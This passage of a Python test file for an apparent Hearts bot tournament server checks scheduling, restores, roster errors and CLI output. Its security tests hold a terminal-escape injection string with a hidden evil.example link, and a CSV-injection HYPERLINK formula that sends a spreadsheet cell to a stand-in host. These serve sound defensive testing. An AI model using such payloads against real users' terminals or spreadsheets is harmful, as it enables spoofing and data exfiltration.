    ladder bot of "alice" are one person, so they are never seated together. The owners of
    some bots (what a duplicate set reads) pair them exactly as the whole map does."""
    tokens = {"cfg-bot": "token-cfg-bot-0123456789", "cfg-2": "token-cfg-2-0123456789",
              "cfg-3": "token-cfg-3-0123456789"}

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path, bot_tokens=tokens,
                                  bot_owners={"cfg-bot": "ALICE", "cfg-2": "ALICE", "cfg-3": "Carol"}) as daemon:
            daemon.arena.store.ladder.add_bot("ladder-bot", "alice")
            daemon.arena.store.ladder.add_bot("ladder-2", "bob")
            whole = await asyncio.to_thread(daemon.arena.owners)
            subsets = [["cfg-bot", "ladder-bot"], ["cfg-bot", "cfg-2", "cfg-3"], ["cfg-2", "ladder-2", "cfg-3"],
                       ["ladder-bot", "ladder-2"], ["cfg-3"]]
            parts = [(names, await asyncio.to_thread(daemon.arena.owners, names)) for names in subsets]
            return whole, parts

    owners, parts = run(scenario())
    assert owners["cfg-bot"] == owners["ladder-bot"] == "alice", owners
    for names, part in parts:
        assert set(part) == set(names), (names, part)
        assert all((part[a] == part[b]) == (owners[a] == owners[b]) for a in names for b in names), (names, part)
    assert dict(parts[1][1]) == {"cfg-bot": "ALICE", "cfg-2": "ALICE", "cfg-3": "Carol"}  # no ladder owner of theirs read


def test_the_tournament_list_reads_no_final_standings(tmp_path):
    """ListTournaments is public and shows no standings, yet its read parsed every finished
    tournament's final standings, ~10 KB of JSON each for 16 bots: measured on 2026-12-06,
    88 ms a call with 300 finished tournaments against 4.4 ms without, in a thread holding
    the interpreter lock the bots' event loop needs, for every anonymous caller. The list
    now leaves them unread; a tournament's own read has them."""
    store = Store(str(tmp_path / "t.db"))
    with store.db.transaction() as tx:
        tx.execute("INSERT INTO tournaments (id, name, created_ms, finished_ms, status, reason, ruleset, players, "
                   "rounds, deals, seed, clock, roster, instance, standings, shuffle_key) VALUES "
                   "('t-1', 'n', 1, 2, 'finished', 'completed', 'standard', 4, 1, 1, '1', ?, '[]', 'heartsd', ?, NULL)",
                   ("{}", json.dumps({"test": "none", "shuffles": 1, "bots": []})))
    tournaments = TournamentStore(store)
    listed, got = tournaments.list(), tournaments.get("t-1")
    store.close()
    assert [t.id for t in listed] == ["t-1"] and listed[0].standings is None  # before: parsed
    assert got is not None and got.standings == {"test": "none", "shuffles": 1, "bots": []}


def test_a_director_says_once_when_its_match_runs_on_another_daemon(tmp_path):
    """A review: a director whose table's match runs on another daemon of the store looked
    at it again every second without a word, so an organiser could not tell a tournament
    that waits from one that hangs. It now says so once per match, naming the instance."""
    db = str(tmp_path / "heartsd.db")

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path, db=db, log_level="info") as daemon:
            other = Store(db, instance="b")
            other.insert_running("m-elsewhere", "standard", 4, ["alice", "bob", "carol", "dave"], 7)
            with other.db.transaction() as tx:
                tx.execute("INSERT INTO tournaments (id, name, created_ms, finished_ms, status, reason, ruleset, "
                           "players, rounds, deals, seed, clock, roster, instance, standings, shuffle_key) VALUES "
                           "('t-1', 'cup', 1, NULL, 'running', '', 'standard', 4, 1, 1, '1', ?, '[]', 'heartsd', "
                           "NULL, NULL)", ("{}",))
                tx.execute("INSERT INTO tournament_tables (tournament_id, round, table_no, seats, status, match_id, "
                           "attempts) VALUES ('t-1', 0, 0, ?, 'running', 'm-elsewhere', 1)",
                           (json.dumps(["alice", "bob", "carol", "dave"]),))
            other.close()
            with capture_logs() as logs:
                daemon.arena.tournaments.start("t-1")  # as a start or a resume does
                await asyncio.sleep(tours.CANCEL_POLL_S * 2.5)  # the director looks three times
        return logs

    said = [entry for entry in run(scenario()) if entry["event"].startswith("tournament waits for its match")]
    assert said == [{"event": "tournament waits for its match running on another daemon of the store",
                     "tournament": "t-1", "match": "m-elsewhere", "instance": "b", "log_level": "info"}], said


def test_tournament_show_draws_a_stored_versions_escapes_as_text_never_raw(tmp_path, capsys):
    """An attack pass: a bot's hello.version of terminal escapes (clear the screen, a hidden
    link, a line break drawing a made-up row) reached an organiser's terminal through the
    CLI's tables. The daemon refuses such versions now, but a store from before holds them,
    frozen in rosters and standings: the CLI writes every control character as an escape."""
    from heartsd import cli

    evil = "1.0\x1b[2J\x1b]8;;http://evil.example/\x1b\\click\r\n{\"event\": \"admin token rotated\"}\x07"
    row = {"rank": 1, "bot": "alice", "version": evil, "points_per_deal": 6.5, "ci_low": 5.0, "ci_high": 8.0,
           "p_best": 0.5, "deals": 4, "matches": 1, "tied_with": [], "decisions": 52, "timeouts": 0, "illegal": 0,
           "disconnects": 0, "auto": 0}
    standings = json.dumps({"test": "none", "shuffles": 1, "bots": [row], "head_to_head": []})

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path) as daemon:
            store = daemon.arena.tournaments.store
            store.changes += 1
            with store.db.transaction() as tx:
                tx.execute("INSERT INTO tournaments (id, name, created_ms, finished_ms, status, reason, ruleset, "
                           "players, rounds, deals, seed, clock, roster, instance, standings, shuffle_key) VALUES "
                           "('t-1', ?, 1, 2, 'finished', 'completed', 'standard', 4, 1, 1, '1', ?, ?, 'heartsd', ?, "
                           "NULL)", ("cup\x1b[2J", "{}", json.dumps([{"bot": "alice", "owner": "a", "version": evil}]),
                                     standings))
            got = await asyncio.to_thread(cli.main, ["tournament", "show", "--server", daemon.target, "t-1"])
            return got, capsys.readouterr().out

    got, out = run(scenario())
    assert got == 0 and "alice" in out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out, repr(out)  # before: all three, raw
    assert "\\x1b[2J" in out and "cup\\x1b[2J" in out
    assert not any(line.strip().startswith("{\"event\"") for line in out.splitlines())  # no made-up line


def test_a_tournament_keeps_its_clock_when_the_daemon_restarts_with_another(tmp_path):
    """An organiser pass: only the clock values a CreateTournament gave were kept (the CLI
    gives decision_ms at most); bank, grace and the rest were read from the daemon's settings
    as each match started, so a restart with another [clock] mid-tournament changed the time
    control between rounds, silently (a searching bot lost its bank in some rounds only).
    Now the whole clock is resolved and frozen at create, shown by GetTournament and
    `tournament show`, and every match of the tournament plays it."""
    names = dict(zip(("alice", "bob", "carol", "dave"), ("random",) * 4))
    created_with = dict(decision_ms=1500, bank_ms=4000, max_illegal=2, auto_after=4, grace_ms=3500)

    async def scenario():
        async with running_daemon(tmp_path, **created_with) as daemon:
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="clock", bots=list(names), rounds=2, deals_per_match=1), metadata=auth(ADMIN))).tournament
                await daemon.arena.tournaments.stop()  # type: ignore[attr-defined]  # as a SIGTERM would
            await _stop(clients)
        async with running_daemon(tmp_path, decision_ms=40, bank_ms=200, max_illegal=1, auto_after=1,
                                  grace_ms=100) as daemon:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names)
            t = await _until(daemon.target, created.id, _finished, 120)
            await _stop(clients)
            records = [daemon.arena.store.get(row.match_id).record for row in t.tables]
            shown = await asyncio.to_thread(
                subprocess.run, [sys.executable, "-m", "heartsd.cli", "tournament", "show", created.id,
                                 "--server", daemon.target, "--admin-token", ADMIN],
                capture_output=True, text=True, timeout=60)
            return created, t, records, shown

    created, t, records, shown = run(scenario())
    for clock in (*(r.clock for r in records), created.clock, t.clock):  # the matches first: what they played
        got = {k: getattr(clock, k) for k in created_with}
        assert got == created_with, got
    assert len(records) == 2
    assert "clock: 1,500 ms a decision, a 4,000 ms bank, 2 rejected answers, auto-play after 4 defaults, " \
           "3,500 ms grace" in shown.stdout, shown


def test_a_duplicate_set_with_a_table_that_did_not_finish_is_played_again_whole(tmp_path):
    """An organiser's pass: a SIGTERM mid-round let one table of a set finish within the
    shutdown grace and aborted the other; after the restart the aborted table alone was
    replayed, on fresh shuffles of its own (set_id empty): the round was no longer duplicate
    and the standings counted its extra shuffles, without a word. Here the abort is an
    organiser's cancel of one table's match mid-play (the same row state a shutdown leaves).
    Now the set is played again whole, as a new set, and only that one counts."""
    tokens = {**BOTS, "hank": "token-hank-0123456789"}
    names = dict.fromkeys(tokens, "random")

    async def scenario():
        async with running_daemon(tmp_path, bot_tokens=tokens) as daemon:
            async with _tournament_of(daemon, tokens, names, name="sets", rounds=1, deals_per_match=30) as (_, created):
                first = await _until(daemon.target, created.id,
                                     lambda t: all(r.status == "running" and r.match_id for r in t.tables), 60)
                cut = daemon.arena.runners[first.tables[1].match_id]
                first_set = daemon.arena.store.get(first.tables[0].match_id).set_id
                with capture_logs() as logs:
                    cut.stop(game_pb2.MATCH_STATUS_ABORTED, "cut for the test")
                    t = await _until(daemon.target, created.id, _finished, 120)
            stored = [daemon.arena.store.get(row.match_id) for row in t.tables]
            return first, first_set, t, stored, logs

    first, first_set, t, stored, logs = run(scenario())
    assert first_set and len(t.tables) == 2
    assert [row.attempts for row in t.tables] == [2, 2], [e["event"] for e in logs]  # before: [1, 2]
    assert {m.status for m in stored} == {"finished"}
    assert stored[0].set_id == stored[1].set_id and stored[0].set_id not in ("", first_set), stored
    assert {row.match_id for row in t.tables}.isdisjoint({row.match_id for row in first.tables})
    assert any(e["event"].startswith("a table of a duplicate set did not finish") for e in logs), logs


def test_the_log_numbers_rounds_and_tables_as_tournament_show_prints_them(tmp_path):
    """An organiser's pass, reading the log after a SIGKILL: "tournament match did not
    finish" said round 2 table 0 of the table `tournament show` printed as round 3 table 1,
    while the absent-bot warning said round 2 of the second round. Every tournament log line
    now counts rounds and tables from 1, as `show`, `watch` and `--json` do. Here the second
    table of a one-round duplicate set is cut mid-play. (60 deals a match: both tables must be
    seen running at once, and 30 were over in ~1.3 s, missed on a loaded machine.)"""
    tokens = {**BOTS, "hank": "token-hank-0123456789"}
    names = dict.fromkeys(tokens, "random")

    async def scenario():
        async with running_daemon(tmp_path, bot_tokens=tokens, log_level="info") as daemon:
            async with _tournament_of(daemon, tokens, names, name="logs", rounds=1, deals_per_match=60) as (_, created):
                first = await _until(daemon.target, created.id,
                                     lambda t: all(r.status == "running" and r.match_id for r in t.tables), 60)
                with capture_logs() as logs:
                    daemon.arena.runners[first.tables[1].match_id].stop(game_pb2.MATCH_STATUS_ABORTED, "cut")
                    await _until(daemon.target, created.id, _finished, 120)
            return first, logs

    first, logs = run(scenario())
    cut = [e for e in logs if e["event"].startswith("tournament match did not finish")]
    assert [(e["round"], e["table"], e["match_id"]) for e in cut] == [(1, 2, first.tables[1].match_id)], cut
    again = [e for e in logs if e["event"].startswith("a table of a duplicate set did not finish")]
    assert [(e["round"], e["table"]) for e in again] == [(1, 1)], again


def test_a_store_restored_from_a_backup_never_deals_a_later_round_on_the_shuffles_dealt_after_it(tmp_path):
    """An organiser's pass: a backup taken while a tournament was paused between rounds,
    the tournament finished, the store then restored from the backup (a damaged disk) and
    the tournament resumed: every later round was played again on the very shuffles its bots
    had been dealt after the backup (a table's first seed comes from the tournament's seed
    and key; the copy's ledger knew nothing of them), so a bot that remembers knew every
    hand. The copy marks the first attempt of each unplayed table spent: it deals at random."""
    from heartsd.backup import backup

    names = dict.fromkeys(("alice", "bob", "carol", "dave"), "random")
    tokens = {n: BOTS[n] for n in names}
    live, copy = str(tmp_path / "live.db"), str(tmp_path / "copy.db")

    def seeds(daemon, t: P.Tournament) -> dict[tuple[int, int], int]:  # type: ignore[no-untyped-def]
        return {(r.round, r.table): daemon.arena.store.get(r.match_id).seed for r in t.tables}

    async def scenario():
        async with running_daemon(tmp_path, db=live) as daemon:
            async with _tournament_of(daemon, tokens, names, name="restored", rounds=3, deals_per_match=2) as (stub, t):
                await stub.PauseTournament(P.PauseTournamentRequest(id=t.id), metadata=auth(ADMIN))
                paused = await _until(daemon.target, t.id, lambda x: all(r.status in ("pending", "finished")
                                                                         for r in x.tables), 60)
                await asyncio.to_thread(backup, live, copy)
                await stub.ResumeTournament(P.ResumeTournamentRequest(id=t.id), metadata=auth(ADMIN))
                first = seeds(daemon, await _until(daemon.target, t.id, _finished, 120))
        async with running_daemon(tmp_path, db=copy) as daemon, daemon.channel() as channel:  # the copy, restored
            clients = await _clients(daemon.target, tokens, names)
            try:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                await stub.ResumeTournament(P.ResumeTournamentRequest(id=t.id), metadata=auth(ADMIN))
                again = seeds(daemon, await _until(daemon.target, t.id, _finished, 120))
            finally:
                await _stop(clients)
        return paused, first, again

    paused, first, again = run(scenario())
    unplayed = [(r.round, r.table) for r in paused.tables if r.status == "pending"]
    assert unplayed, paused.tables
    assert all(again[k] != first[k] for k in unplayed), (unplayed, first, again)


def test_a_store_restored_by_other_means_never_deals_a_later_round_on_shuffles_dealt_after_its_copy(
        tmp_path, store_url, request):
    """The same organiser's failure, for a copy `store backup` did not make: a PostgreSQL
    dump (`pg_dump`, restored with `psql`), or a SQLite file copied with the daemon
    stopped. Such a copy cannot mark the first attempts spent, so `heartsd store restored`
    does it, run on the restored store before the daemon starts on it (before, there was
    no way: a PostgreSQL store restored mid-tournament replayed the shuffles its bots had
    been dealt after the dump)."""
    names = dict.fromkeys(("alice", "bob", "carol", "dave"), "random")
    tokens = {n: BOTS[n] for n in names}
    postgres = store_url.startswith("postgresql://")
    dump = tmp_path / ("dump.sql" if postgres else "copy.db")

    def seeds(daemon, t: P.Tournament) -> dict[tuple[int, int], int]:  # type: ignore[no-untyped-def]
        return {(r.round, r.table): daemon.arena.store.get(r.match_id).seed for r in t.tables}

    async def play(url: str, copy_between_rounds: bool, t: P.Tournament | None = None):  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path, db=url) as daemon, daemon.channel() as channel:
            if t is None:
                async with _tournament_of(daemon, tokens, names, name="dumped", rounds=3, deals_per_match=2) as (stub, t):
                    await stub.PauseTournament(P.PauseTournamentRequest(id=t.id), metadata=auth(ADMIN))
                    paused = await _until(daemon.target, t.id, lambda x: all(r.status in ("pending", "finished")
                                                                             for r in x.tables), 60)
                    copy_store(url)
                    await stub.ResumeTournament(P.ResumeTournamentRequest(id=t.id), metadata=auth(ADMIN))
                    return t, paused, seeds(daemon, await _until(daemon.target, t.id, _finished, 120))
            clients = await _clients(daemon.target, tokens, names)
            try:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                await stub.ResumeTournament(P.ResumeTournamentRequest(id=t.id), metadata=auth(ADMIN))
                return seeds(daemon, await _until(daemon.target, t.id, _finished, 120))
            finally:
                await _stop(clients)

    def copy_store(url: str) -> None:
        if postgres:
            from tests.postgres import _binary
            subprocess.run([_binary("pg_dump"), "--no-owner", "-f", str(dump), url], check=True, capture_output=True)
        else:  # the tournament is paused between rounds: nothing is written while the file is copied
            import sqlite3
            with sqlite3.connect(url) as live, sqlite3.connect(dump) as copy:
                live.backup(copy)  # the file as a stopped daemon would leave it, nothing marked

    def restore() -> str:
        if postgres:
            from tests.postgres import fresh_database, _binary
            url = request.getfixturevalue("postgres_server")
            restored = stack.enter_context(fresh_database(url))
            subprocess.run([_binary("psql"), "-q", "-v", "ON_ERROR_STOP=1", "-f", str(dump), restored],
                           check=True, capture_output=True)
            return restored
        return str(dump)

    with contextlib.ExitStack() as stack:
        t, paused, first = run(play(store_url, True))
        restored = restore()
        said = subprocess.run([sys.executable, "-m", "heartsd.cli", "store", "restored", "--db", restored],
                              capture_output=True, text=True)
        again = run(play(restored, False, t))
    unplayed = [(r.round, r.table) for r in paused.tables if r.status == "pending"]
    assert said.returncode == 0, said.stderr
    assert f"{len(unplayed)} unplayed tournament table(s)" in said.stdout, said.stdout
    assert unplayed, paused.tables
    assert all(again[k] != first[k] for k in unplayed), (unplayed, first, again)  # before: no such command


def test_a_roster_refusal_names_the_bot_it_is_about(tmp_path):
    """An organiser's pass: "a bot is on the roster twice" did not say which, and a bot no
    token names ('zed', a typo) was "not connected: its version is frozen at the start", as
    if it only had to connect. Now the repeated bot is named, and an unknown one is NOT_FOUND.
    And a roster of bots not connected named only the first (an organiser connecting them
    one refusal at a time): now every one."""
    async def scenario():
        async with running_daemon(tmp_path) as daemon, daemon.channel() as channel:
            stub = tournament_pb2_grpc.TournamentServiceStub(channel)
            refused = []
            for bots in (["alice", "bob", "alice", "carol", "dave"], ["alice", "bob", "carol", "zed"],
                         ["alice", "bob", "carol", "dave"], ["alcie", "bob", "carol", "zed"]):
                with pytest.raises(grpc.aio.AioRpcError) as err:
                    await stub.CreateTournament(P.CreateTournamentRequest(name="x", bots=bots, rounds=1),
                                                metadata=auth(ADMIN), timeout=10)
                refused.append((err.value.code(), err.value.details()))
            return refused

    twice, unknown, absent, typo = run(scenario())
    assert twice == (grpc.StatusCode.INVALID_ARGUMENT, "on the roster twice: 'alice'"), twice
    assert absent == (grpc.StatusCode.FAILED_PRECONDITION, "bots 'alice', 'bob', 'carol', 'dave' are not connected: "
                      "their versions are frozen at the start"), absent
    assert unknown[0] == grpc.StatusCode.NOT_FOUND and unknown[1].startswith("unknown bot 'zed'"), unknown
    assert typo[0] == grpc.StatusCode.NOT_FOUND and typo[1].startswith(
        "unknown bots 'alcie' (did you mean 'alice'?), 'zed': no token of this daemon names them"), typo


def test_a_roster_bot_whose_ladder_token_was_revoked_is_named_revoked_with_the_way_back(tmp_path):
    """An organiser's pass: a roster naming a ladder bot whose token had been revoked was
    refused "unknown bot 'r2': no token of this daemon names it ([bot_tokens], or `heartsd
    ladder add-bot`)"; `add-bot r2` then refused the name as taken. The refusal now says the
    bot's token was revoked and that `heartsd ladder rotate` issues it a new one."""
    async def scenario():
        async with running_daemon(tmp_path) as daemon, daemon.channel() as channel:
            daemon.arena.store.ladder.add_bot("r2", "owner-r2")
            daemon.arena.store.ladder.revoke("r2")
            stub = tournament_pb2_grpc.TournamentServiceStub(channel)
            with pytest.raises(grpc.aio.AioRpcError) as err:
                await stub.CreateTournament(P.CreateTournamentRequest(name="x", bots=["alice", "bob", "carol", "r2"],
                                                                      rounds=1), metadata=auth(ADMIN), timeout=10)
            return err.value.code(), err.value.details()

    code, details = run(scenario())
    assert code == grpc.StatusCode.NOT_FOUND, (code, details)
    assert "'r2'" in details and "revoked" in details and "heartsd ladder rotate r2" in details, details
    assert "add-bot" not in details, details


def test_a_table_waiting_for_a_bot_without_a_token_any_more_says_so_in_the_log(tmp_path, monkeypatch):
    """An organiser's pass: restarted with a roster bot's token removed, the table waited
    `tournament_absent_s` and the only reason anywhere was "bot 'heidi' is not connected",
    as if it only had to connect. The log now says no token of the daemon names it (publicly
    it still reads "not connected": a token's state is the operator's). Here the bot's ladder
    registration is revoked mid-tournament, which ends its stream the same way."""
    monkeypatch.setattr(tours, "SEAT_WAIT_S", 0.3)
    names = dict.fromkeys(("alice", "bob", "carol"), "random")

    async def scenario():
        async with running_daemon(tmp_path, log_level="info") as daemon:  # the wait is logged at info
            ladder = daemon.arena.store.ladder
            token = await asyncio.to_thread(ladder.add_bot, "rex", "rex-owner")
            async with _tournament_of(daemon, {**{n: BOTS[n] for n in names}, "rex": token}, {**names, "rex": "random"},
                                      name="revoked", rounds=200, deals_per_match=1) as (stub, created):
                await _until(daemon.target, created.id, lambda t: t.matches_finished >= 1, 60)
                with capture_logs() as logs:
                    await asyncio.to_thread(ladder.revoke, "rex")
                    t = await _until(daemon.target, created.id, lambda t: any(r.waiting for r in t.tables), 60)
                    await asyncio.sleep(1.0)
                await stub.CancelTournament(P.CancelTournamentRequest(id=created.id), metadata=auth(ADMIN))
            return t, logs

    t, logs = run(scenario())
    assert any(r.waiting.endswith("bot 'rex' is not connected") for r in t.tables), [r.waiting for r in t.tables]
    assert any("no token of this daemon names it any more" in str(e.get("why", "")) for e in logs), logs


def test_a_table_says_why_it_waits_at_once_not_after_the_first_wait(tmp_path):
    """An organiser's pass: a table whose bot had left read "starting" with no reason for
    the first 30 s (SEAT_WAIT_S, one wait for the seats), so `tournament show` looked stuck
    for nothing. The reason is now there as soon as the table waits."""
    names = dict.fromkeys(("alice", "bob", "carol"), "random")

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in (*names, "dave")}, {**names, "dave": "random"})
            try:
                async with daemon.channel() as channel:
                    stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                    created = (await stub.CreateTournament(P.CreateTournamentRequest(
                        name="leaves", bots=[*names, "dave"], rounds=200, deals_per_match=1),
                        metadata=auth(ADMIN))).tournament
                    await _until(daemon.target, created.id, lambda t: t.matches_finished >= 1, 60)
                    await _stop(clients[-1:])  # dave leaves
                    left = time.monotonic()
                    t = await _until(daemon.target, created.id, lambda t: any(r.waiting for r in t.tables), 60)
                    waited = time.monotonic() - left
                    await stub.CancelTournament(P.CancelTournamentRequest(id=created.id), metadata=auth(ADMIN))
            finally:
                await _stop(clients[:-1])
            return t, waited

    t, waited = run(scenario())
    assert any(r.waiting.endswith("bot 'dave' is not connected") for r in t.tables), [r.waiting for r in t.tables]
    assert waited < tours.SEAT_WAIT_S / 2, waited  # before: SEAT_WAIT_S and more


@pytest.mark.parametrize("slots", [1, 2])
def test_why_a_table_waits_follows_its_bots_while_it_waits_for_them(tmp_path, monkeypatch, slots):
    """An organiser's pass: after a restart, a table read "waits: bot 'r5' is not connected"
    for half a minute while r5 was connected and playing elsewhere, the bot it waited for
    being another (r2, whose token was revoked): the reason was looked at when the table
    began to wait and again only after each wait for the seats (SEAT_WAIT_S, 30 s). It now
    follows the bots while the table waits. (One wait is made longer than the test here, so
    only a reason kept current can change within it. Bots of one match slot too: the table's
    own wait holds their slots, which must not read as busy elsewhere.)"""
    monkeypatch.setattr(tours, "SEAT_WAIT_S", 3600.0)
    names = dict.fromkeys(("alice", "bob", "carol", "dave"), "random")

    def names_(t, bot: str) -> bool:  # type: ignore[no-untyped-def]
        return any(f"bot {bot!r} is not connected" in r.waiting for r in t.tables)

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names, max_matches=slots)
            back = []
            try:
                async with daemon.channel() as channel:
                    stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                    created = (await stub.CreateTournament(P.CreateTournamentRequest(
                        name="two leave", bots=list(names), rounds=200, deals_per_match=1),
                        metadata=auth(ADMIN))).tournament
                    await _until(daemon.target, created.id, lambda t: t.matches_finished >= 1, 60)
                    await _stop(clients[2:])  # carol and dave leave
                    first = await _until(daemon.target, created.id, lambda t: any(r.waiting for r in t.tables), 60)
                    named = "carol" if names_(first, "carol") else "dave"
                    other = "dave" if named == "carol" else "carol"
                    back = await _clients(daemon.target, {named: BOTS[named]}, {named: "random"}, max_matches=slots)
                    then = await _until(daemon.target, created.id, lambda t: names_(t, other), 60)
                    await stub.CancelTournament(P.CancelTournamentRequest(id=created.id), metadata=auth(ADMIN))
            finally:
                await _stop(clients[:2] + back)
            return first, then, named, other

    first, then, named, other = run(scenario())
    assert names_(first, named), [r.waiting for r in first.tables]
    assert names_(then, other) and not names_(then, named), [r.waiting for r in then.tables]


def test_resuming_a_running_tournament_directed_elsewhere_says_how_to_take_it_over(tmp_path):
    """An organiser's pass: restarted under another --instance, the tournament still read
    "running" on a match the store had aborted, and `tournament resume` answered only
    "... is running"; the way out (pause, then resume, which adopts it) was in the README
    alone. The refusal now names the directing instance and that way."""
    names = dict.fromkeys(("alice", "bob", "carol", "dave"), "random")

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            async with _tournament_of(daemon, {n: BOTS[n] for n in names}, names, name="elsewhere", rounds=50,
                                      deals_per_match=1) as (stub, created):
                with daemon.arena.store.db.transaction() as tx:  # as if another instance directed it
                    tx.execute("UPDATE tournaments SET instance = ? WHERE id = ?", ("old-pod", created.id))
                with pytest.raises(grpc.aio.AioRpcError) as err:
                    await stub.ResumeTournament(P.ResumeTournamentRequest(id=created.id), metadata=auth(ADMIN))
                refusals = [(err.value.code(), err.value.details())]
                await stub.CancelTournament(P.CancelTournamentRequest(id=created.id), metadata=auth(ADMIN))
            return refusals

    [(code, details)] = run(scenario())
    assert code == grpc.StatusCode.FAILED_PRECONDITION, (code, details)
    assert "is running, directed by instance 'old-pod'" in details and "pause the tournament, then resume" in details


def test_a_tournaments_schedule_is_drawn_in_a_worker_process_never_on_the_daemons_interpreter(tmp_path, monkeypatch):
    """An attack pass (2026-12-07): CreateTournament drew its schedule (a local search in pure
    Python) on a thread of the daemon, holding the interpreter's lock that the event loop,
    every bot's stream and clock, waits for: ~13 s for 32 bots and 25 rounds, ~4 minutes for
    64 bots and 100 rounds, while the bots' decisions fell to ~12% (3,188 a second to 379);
    `heartsd tournament create` gave up after its 30 s, the tournament was not created, and a
    retry drew another schedule beside the first. Now it is drawn in a worker process of its
    own, at a lower CPU priority: here a schedule drawn on the daemon's interpreter fails."""
    from heartsd import schedule

    def on_the_daemon(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("a tournament's schedule drawn on the daemon's interpreter")

    monkeypatch.setattr(schedule, "_schedule", on_the_daemon)  # a spawned worker imports the real one
    names = ["alice", "bob", "carol", "dave", "erin"]

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path) as daemon:
            async with _tournament_of(daemon, {n: BOTS[n] for n in names}, {n: "random" for n in names},
                                      rounds=3, deals_per_match=1) as (_, created):
                return created

    created = run(scenario())
    assert [(t.round, len(t.bots)) for t in created.tables] == [(0, 4), (1, 4), (2, 4)]  # a bye a round
    assert all(set(t.bots) <= set(names) for t in created.tables)
    assert len({b for t in created.tables for b in t.bots}) == 5


def test_the_csv_export_never_hands_a_spreadsheet_a_formula_a_bot_declared():
    """An attack pass (2026-12-07): a bot's declared version goes into `tournament show --csv`
    (and `tournament local --csv FILE`) as it was sent, and a version such as
    `=HYPERLINK("https://evil.example/?"&A2,"see the log")` became a live formula in the
    organiser's spreadsheet (CSV injection): the daemon already keeps such text from the
    organiser's terminal. A text cell that a spreadsheet reads as a formula (=, +, -, @, a
    tab or carriage return first) is exported with a quote before it; numbers stay numbers."""
    deals = [stats.Deal(f"s{s}", "m1", bot, points)
             for s in range(8) for bot, points in (("a", 0), ("b", 5), ("c", 9), ("d", 12))]
    formula = '=HYPERLINK("https://evil.example/?"&A2,"see the log")'
    versions = {"a": formula, "b": "+1", "c": "@SUM(1)", "d": "v2"}
    table = stats.compute(deals, [], {}, seed=7, replicates=200, versions=versions)
    exported = json.loads(table.to_json())
    for b in exported["bots"]:
        b["points_per_deal"] = -0.5 if b["bot"] == "a" else b["points_per_deal"]  # a bonus may make it negative
    rows = {r["bot"]: r for r in csv.DictReader(io.StringIO(stats.Standings.csv_from_dict(exported)))}
    assert rows["a"]["version"] == "'" + formula and rows["b"]["version"] == "'+1", rows
    assert rows["c"]["version"] == "'@SUM(1)" and rows["d"]["version"] == "v2"
    assert rows["a"]["points_per_deal"] == "-0.5"  # a number, not text
    assert json.loads(table.to_json())["bots"][0]["version"] in versions.values()  # --json keeps what was sent


def test_tournament_create_warns_of_the_tables_an_owners_bots_must_share(tmp_path):
    """Five bots, three of one owner, at one table of four: one bye a round leaves two of
    the owner's bots at the table, whatever the schedule. The daemon keeps them apart where
    it can (above) and CreateTournament takes such a roster, but before `tournament create`
    said nothing of it, and an organiser learned it from the standings. It now names the
    bots, the rounds and why, on stderr, and still starts the tournament (`tournament show`
    notes it too, for one created by the API); a roster that leaves a way gets no warning."""
    heartsd = [sys.executable, "-m", "heartsd.cli"]
    names = ("ann-1", "ann-2", "ann-3", "bob", "carol", "dave")
    tokens = {n: f"token-{n}-0123456789" for n in names}

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path, bot_tokens=tokens,
                                  bot_owners={n: "ann" for n in names if n.startswith("ann")}) as daemon:
            bots = [await Bot(daemon, name, first_legal, token=tokens[name]).start() for name in names]
            outs = []
            for roster in (names[:5], names):  # the second: two byes a round, two of ann's three rest
                outs.append(await asyncio.to_thread(subprocess.run, [
                    *heartsd, "tournament", "create", "--server", daemon.target, "--admin-token", ADMIN, "--again",
                    "--rounds", "2", "--deals", "1", *[a for b in roster for a in ("--bot", b)]],
                    capture_output=True, text=True, timeout=120))
            first = outs[0].stdout.split()[1]  # "tournament t-... started: ..."
            shown = await asyncio.to_thread(subprocess.run, [
                *heartsd, "tournament", "show", first, "--server", daemon.target], capture_output=True, text=True,
                timeout=120, env={**os.environ, "COLUMNS": "400"})
            for b in bots:
                await b.close()
            return (*outs, shown)

    forced, free, shown = run(scenario())
    assert shown.returncode == 0, shown
    assert "note: bots of owner 'ann' share a table (round 1: 'ann-" in " ".join(shown.stdout.split()), shown.stdout
    assert forced.returncode == 0 and free.returncode == 0, (forced, free)
    assert "started" in forced.stdout and "started" in free.stdout
    said = " ".join(forced.stderr.split())
    assert "warning: bots of owner 'ann' share a table (round 1: 'ann-" in said, forced.stderr
    assert "; round 2: 'ann-" in said and "has 3 of the 5 bots and a round has 1 table of 4" in said, forced.stderr
    assert said.count("warning") == 1, forced.stderr
    assert "warning" not in free.stderr, free.stderr


def test_tournament_create_waits_minutes_for_a_schedule_and_says_what_a_deadline_means(tmp_path):
    """A large tournament's schedule takes minutes to draw (~4 for 64 bots and 100 rounds), in
    a worker process the call's end kills: `tournament create` waited its 30 s like every
    other command, then printed "DEADLINE_EXCEEDED: Deadline Exceeded" with nothing created.
    It now waits up to 10 minutes by default, and a deadline says what it means and what to do."""
    heartsd = [sys.executable, "-m", "heartsd.cli"]
    helped = subprocess.run([*heartsd, "tournament", "create", "--help"], capture_output=True, text=True, timeout=60)
    assert "(default: 600.0)" in " ".join(helped.stdout.split()), helped.stdout

    # A server that takes the connection and never answers, so that each command's first call
    # is the one whose deadline runs out. Before, a real daemon: on a quiet machine its
    # ListTournaments (the check before a create) once answered within the 1 ms, and the
